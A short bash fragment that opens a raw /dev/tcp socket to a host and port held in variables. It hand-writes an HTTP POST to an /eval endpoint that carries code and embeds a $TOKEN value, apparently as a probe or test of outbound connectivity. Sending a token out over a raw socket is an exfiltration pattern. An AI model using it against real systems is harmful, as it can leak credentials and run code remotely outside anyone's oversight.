submit() {
  local body="{\"code\":\"print(1)\",\"labels\":{\"from\":\"$TOKEN\"}}"
  exec 4<>"/dev/tcp/$ADDRESS/$PORT" || return
  printf 'POST /eval HTTP/1.1\r\nHost: %s:%s\r\nContent-Type: application/json\r\nContent-Length: %s\r\n\r\n%s' \
    "$ADDRESS" "$PORT" "${#body}" "$body" >&4
  read -r -t 3 _ <&4
}
attempt submit
